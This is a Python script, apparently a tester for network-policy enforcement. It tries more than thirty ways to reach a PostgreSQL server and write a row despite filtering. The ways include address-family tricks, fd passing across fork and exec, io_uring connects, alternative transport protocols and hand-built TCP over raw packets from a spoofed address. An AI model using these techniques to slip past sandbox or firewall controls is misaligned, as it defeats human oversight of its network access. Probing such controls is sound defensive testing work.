"""Tries one way to a PostgreSQL server and, where it gets there, writes a row.

    bypass.py WAY ADDRESS ROW [MORE …]

Each way is a function that returns a connected socket, or does without one.
What it came to is printed; whether the row is there, the server is asked.
"""

import array
import ctypes
import mmap
import os
import socket
import struct
import sys
import threading

ADDRESS, ROW = sys.argv[2], sys.argv[3]
MORE = sys.argv[4:]
PORT = 5432
LIBC = ctypes.CDLL(None, use_errno=True)


def startup():
    body = struct.pack("!I", 196608) + b"user\0jane\0database\0shop\0\0"
    return struct.pack("!I", len(body) + 4) + body


def until_ready(s):
    """Reads messages up to ReadyForQuery; errors end the program."""
    pending = b""
    while True:
        while len(pending) >= 5:
            kind, length = pending[:1], struct.unpack("!I", pending[1:5])[0]
            if len(pending) < length + 1:
                break
            body, pending = pending[5 : length + 1], pending[length + 1 :]
            if kind == b"E":
                fields = {f[:1]: f[1:].decode() for f in body.split(b"\0") if f}
                sys.exit(f"the answer is {fields.get(b'C')} {fields.get(b'M')}")
            if kind == b"Z":
                return
        got = s.recv(65536)
        if not got:
            sys.exit("closed")
        pending += got


def write_row(s, started=False):
    s.settimeout(10)
    if not started:
        s.sendall(startup())
    until_ready(s)
    body = f"insert into harm values ('{ROW}')".encode() + b"\0"
    s.sendall(b"Q" + struct.pack("!I", len(body) + 4) + body)
    until_ready(s)
    print("written")


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address=ADDRESS, protocol=0):
    s = socket.socket(family(address), socket.SOCK_STREAM, protocol)
    s.settimeout(10)
    return s


def disconnect(s):
    """connect(2) with AF_UNSPEC."""
    if LIBC.connect(s.fileno(), b"\0" * 16, 16):
        raise OSError(ctypes.get_errno(), "AF_UNSPEC")


def plain():
    s = tcp()
    # With the scope that a link-local address has.
    s.connect(socket.getaddrinfo(ADDRESS, PORT)[0][4])
    return s


def mapped():
    s = tcp("::")
    s.connect((f"::ffff:{ADDRESS}", PORT))
    return s


def bound_to_any():
    s = tcp()
    s.bind(("::" if ":" in ADDRESS else "0.0.0.0", 0))
    s.connect((ADDRESS, PORT))
    return s


def bound_to_own_address():
    with socket.socket(family(ADDRESS), socket.SOCK_DGRAM) as udp:
        # Another port, which nobody protects, tells the way there.
        udp.connect((ADDRESS, 9))
        own = udp.getsockname()[0]
    s = tcp()
    s.bind((own, 0))
    s.connect((ADDRESS, PORT))
    return s


def bound_late():
    IP_BIND_ADDRESS_NO_PORT = 24
    s = tcp()
    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind(("0.0.0.0", 0))
    s.connect((ADDRESS, PORT))
    return s


def by_a_chosen_port():
    IP_LOCAL_PORT_RANGE = 51
    s = tcp()
    s.setsockopt(socket.IPPROTO_IP, IP_LOCAL_PORT_RANGE, struct.pack("=HH", 40000, 41000))
    s.connect((ADDRESS, PORT))
    return s


def by_a_device():
    """MORE[0] is the device that leads there."""
    s = tcp()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, MORE[0].encode())
    s.connect((ADDRESS, PORT))
    return s


def fast_open():
    MSG_FASTOPEN = 0x20000000
    s = tcp()
    s.setblocking(True)
    s.sendto(startup(), MSG_FASTOPEN, (ADDRESS, PORT))
    write_row(s, started=True)


def fast_open_by_sendmsg():
    MSG_FASTOPEN = 0x20000000
    s = tcp()
    s.setblocking(True)
    s.sendmsg([startup()], [], MSG_FASTOPEN, (ADDRESS, PORT))
    write_row(s, started=True)


def fast_open_at_the_first_write():
    TCP_FASTOPEN_CONNECT = 30
    s = tcp()
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect((ADDRESS, PORT))
    return s


def nonblocking():
    s = tcp()
    s.setblocking(False)
    s.connect_ex((ADDRESS, PORT))
    s.setblocking(True)
    return s


def after_another_connection_of_the_socket():
    """MORE[0] is a port that is not protected."""
    s = tcp()
    s.connect((ADDRESS, int(MORE[0])))
    disconnect(s)
    s.connect((ADDRESS, PORT))
    return s


def twice_by_one_socket():
    s = tcp()
    s.connect((ADDRESS, PORT))
    disconnect(s)
    s.connect((ADDRESS, PORT))
    return s


def in_a_thread():
    s = tcp()
    thread = threading.Thread(target=lambda: s.connect((ADDRESS, PORT)))
    thread.start()
    thread.join()
    return s


def by_an_orphan():
    reader, writer = os.pipe()
    if os.fork() == 0:
        if os.fork():
            os._exit(0)
        os.setsid()
        try:
            write_row(plain())
        except (OSError, SystemExit) as error:
            print(error)
        sys.stdout.flush()
        os._exit(0)
    os.close(writer)
    os.wait()
    os.read(reader, 1)


def by_a_socket_of_another():
    """A process that has gone when its socket is connected made it."""
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    if os.fork() == 0:
        made = tcp()
        rights = array.array("i", [made.fileno()])
        there.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        os._exit(0)
    os.wait()
    here.settimeout(10)
    _, ancillary, *_ = here.recvmsg(1, 64)
    (fd,) = struct.unpack("i", ancillary[0][2])
    s = socket.socket(fileno=fd)
    s.settimeout(10)
    s.connect((ADDRESS, PORT))
    return s


def through_exec():
    """The socket is connected by one image and used by the next."""
    if MORE:
        return write_row(socket.socket(fileno=int(MORE[0])))
    s = plain()
    s.setblocking(True)
    s.set_inheritable(True)
    os.execv(sys.executable, [sys.executable, *sys.argv, str(s.fileno())])


def marked():
    s = tcp()
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x1337)
    except PermissionError:
        print("SO_MARK is refused;", end=" ")
    s.connect((ADDRESS, PORT))
    return s


def multipath():
    s = tcp(protocol=262)
    s.connect((ADDRESS, PORT))
    return s


def multipath_after_fallback():
    """As runtimes do that ask for multipath and take what there is."""
    try:
        s = tcp(protocol=262)
    except OSError:
        s = tcp()
    s.connect((ADDRESS, PORT))
    return s


def smc():
    AF_SMC = 43
    s = socket.socket(AF_SMC, socket.SOCK_STREAM, 0)
    s.connect((ADDRESS, PORT))
    return s


def sctp():
    s = tcp(protocol=132)
    s.connect((ADDRESS, PORT))
    return s


def send_datagram(protocol, connected, address):
    s = socket.socket(family(address), socket.SOCK_DGRAM, protocol)
    if connected:
        s.connect((address, PORT))
        s.send(ROW.encode())
    else:
        s.sendto(ROW.encode(), (address, PORT))
    print("sent")


def datagram():
    send_datagram(socket.IPPROTO_UDP, False, ADDRESS)


def datagram_connected():
    send_datagram(socket.IPPROTO_UDP, True, ADDRESS)


def datagram_mapped():
    send_datagram(socket.IPPROTO_UDP, False, f"::ffff:{ADDRESS}")


def datagram_lite():
    send_datagram(136, False, ADDRESS)


def datagram_lite_connected():
    send_datagram(136, True, ADDRESS)


class Ring:
    """io_uring with one entry: io_uring_setup(2), io_uring_enter(2)."""

    SETUP, ENTER = 425, 426
    GETEVENTS, WAKEUP = 1, 2

    def __init__(self, flags):
        params = bytearray(120)
        struct.pack_into("=5I", params, 0, 0, 0, flags, 0, 1000)
        raw = (ctypes.c_char * 120).from_buffer(params)
        self.fd = LIBC.syscall(self.SETUP, 4, raw)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        sq = struct.unpack_from("=8I", params, 40)
        cq = struct.unpack_from("=8I", params, 80)
        entries, completions = struct.unpack_from("=2I", params, 0)
        shared = mmap.MAP_SHARED | mmap.MAP_POPULATE
        self.sq = mmap.mmap(self.fd, sq[6] + entries * 4, flags=shared, offset=0)
        self.cq = mmap.mmap(self.fd, cq[5] + completions * 16, flags=shared, offset=0x8000000)
        self.entries = mmap.mmap(self.fd, entries * 64, flags=shared, offset=0x10000000)
        self.tail, self.array = sq[1], sq[6]
        self.head, self.mask, self.done = cq[0], cq[2], cq[5]

    def run(self, opcode, fd, offset, address, length):
        self.entries[:64] = struct.pack("=BBHiQQI36x", opcode, 0, 0, fd, offset, address, length)
        (tail,) = struct.unpack_from("=I", self.sq, self.tail)
        struct.pack_into("=I", self.sq, self.array + (tail % 4) * 4, 0)
        struct.pack_into("=I", self.sq, self.tail, tail + 1)
        LIBC.syscall(self.ENTER, self.fd, 1, 1, self.GETEVENTS | self.WAKEUP, None, 0)
        (head,) = struct.unpack_from("=I", self.cq, self.head)
        (mask,) = struct.unpack_from("=I", self.cq, self.mask)
        _, result, _ = struct.unpack_from("=QiI", self.cq, self.done + (head & mask) * 16)
        struct.pack_into("=I", self.cq, self.head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def by_a_ring(flags=0, make=False):
    OP_CONNECT, OP_SOCKET = 16, 45
    ring = Ring(flags)
    if make:
        s = socket.socket(fileno=ring.run(OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0))
    else:
        s = tcp()
        s.setblocking(True)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + socket.inet_aton(ADDRESS) + b"\0" * 8
    buffer = ctypes.create_string_buffer(address, 16)
    ring.run(OP_CONNECT, s.fileno(), 16, ctypes.addressof(buffer), 0)
    return s


def by_a_ring_that_polls():
    return by_a_ring(flags=2)


def by_a_ring_that_makes_the_socket():
    return by_a_ring(make=True)


class Packets:
    """As much of TCP as it takes, over AF_PACKET, from an address that nobody
    has, so that no kernel resets what it does not know."""

    def __init__(self, device, own):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((device, 0))
        self.socket.settimeout(5)
        self.mac = self.socket.getsockname()[4]
        self.own, self.peer = socket.inet_aton(own), socket.inet_aton(ADDRESS)
        self.port, self.seq, self.ack = 40999, 1000, 0
        self.arp(1, b"\xff" * 6, b"\0" * 6)
        self.peer_mac = self.until(lambda kind, p: kind == 0x0806 and p[14:18] == self.peer and p[8:14])
        self.send(2)
        self.ack = self.until(lambda kind, p: self.segment(kind, p, 0x12)) + 1
        self.seq += 1
        self.send(16)

    def settimeout(self, _):
        pass

    def arp(self, operation, to, target):
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
        arp += self.mac + self.own + target + self.peer
        self.socket.send(to + self.mac + b"\x08\x06" + arp)

    @staticmethod
    def sum(data):
        data += b"\0" * (len(data) % 2)
        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        return ~total & 0xFFFF

    def send(self, flags, data=b""):
        tcp = struct.pack("!HHIIBBHHH", self.port, PORT, self.seq, self.ack, 0x50, flags, 64000, 0, 0)
        pseudo = self.own + self.peer + struct.pack("!HH", 6, len(tcp + data))
        tcp = tcp[:16] + struct.pack("!H", self.sum(pseudo + tcp + data)) + tcp[18:] + data
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + self.own + self.peer
        ip = ip[:10] + struct.pack("!H", self.sum(ip)) + ip[12:]
        self.socket.send(self.peer_mac + self.mac + b"\x08\0" + ip + tcp)

    def segment(self, kind, packet, flags):
        """The sequence number of a segment for us that has these flags."""
        tcp = packet[20:]
        if kind != 0x0800 or packet[9] != 6 or packet[16:20] != self.own or tcp[13] & flags != flags:
            return None
        return struct.unpack("!I", tcp[4:8])[0]

    def until(self, wanted):
        while True:
            frame = self.socket.recv(65536)
            kind, packet = struct.unpack("!H", frame[12:14])[0], frame[14:]
            if kind == 0x0806 and packet[7] == 1 and packet[24:28] == self.own:
                self.arp(2, frame[6:12], frame[6:12])
            if found := wanted(kind, packet):
                return found

    def sendall(self, data):
        self.send(0x18, data)
        self.seq += len(data)

    def recv(self, _):
        def data(kind, packet):
            if self.segment(kind, packet, 16) != self.ack:
                return None
            length = struct.unpack("!H", packet[2:4])[0]
            return packet[20 + (packet[32] >> 4) * 4 : length]

        got = self.until(data)
        self.ack += len(got)
        self.send(16)
        return got


def by_packets():
    """MORE: a device, and an address of its network that nobody has."""
    write_row(Packets(*MORE))


def main():
    s = globals()[sys.argv[1]]()
    if s is not None:
        write_row(s)


try:
    main()
except OSError as error:
    sys.exit(f"{error}")
